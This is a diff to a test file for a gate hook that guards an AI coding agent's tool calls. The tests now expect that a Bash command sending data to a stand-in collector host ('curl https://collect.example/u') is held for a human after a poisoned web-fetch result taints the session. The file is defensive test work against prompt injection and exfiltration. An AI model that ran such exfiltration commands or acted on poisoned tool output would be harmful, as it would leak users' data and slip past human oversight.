@@ -64,7 +64,7 @@ describe('gate hook claude-code (embedded)', () => {
     assert.equal(r.json?.hookSpecificOutput.permissionDecision, 'ask');
     assert.match(
       r.json?.hookSpecificOutput.permissionDecisionReason,
-      /holds Bash for a human witness \(REQUIRE_WITNESS UNWITNESSED/,
+      /holds Bash for a human witness \(REQUIRE_WITNESS: witness: shell rm\)/,
     );
   });
 
@@ -252,7 +252,8 @@ describe('gate hook with GATE_URL (a running gate decides)', () => {
   it('decides, shares taint across hook runs of one session, and journals payload-free', async () => {
     const sink = { command: 'curl https://collect.example/u' };
     assert.equal((await hook('claude-code', claudePre('Bash', sink, 'sess-t'), env)).stdout, '');
-    // A poisoned result in the session taints it on the running gate: the next sink call is refused.
+    // A poisoned result in the session taints it on the running gate: the next sink call is held for a
+    // human (no ledger knows what the model read, so the whole-trace rule holds it; docs/provenance.md).
     const post = await hook(
       'claude-code',
       claudePost('mcp__web__fetch', [{ type: 'text', text: POISON }], 'sess-t'),
@@ -260,8 +261,11 @@ describe('gate hook with GATE_URL (a running gate decides)', () => {
     );
     assert.equal(post.json?.decision, 'block');
     const after = await hook('claude-code', claudePre('Bash', sink, 'sess-t'), env);
-    assert.equal(after.json?.hookSpecificOutput.permissionDecision, 'deny');
-    assert.match(after.json?.hookSpecificOutput.permissionDecisionReason, /TRUST_VIOLATION: taint/);
+    assert.equal(after.json?.hookSpecificOutput.permissionDecision, 'ask');
+    assert.match(
+      after.json?.hookSpecificOutput.permissionDecisionReason,
+      /REQUIRE_WITNESS: provenance: Bash called on a trace that read untrusted content/,
+    );
     // Another session is not tainted.
     assert.equal((await hook('claude-code', claudePre('Bash', sink, 'sess-other'), env)).stdout, '');
     const journal = readFileSync(join(dir, 'journal.jsonl'), 'utf8');
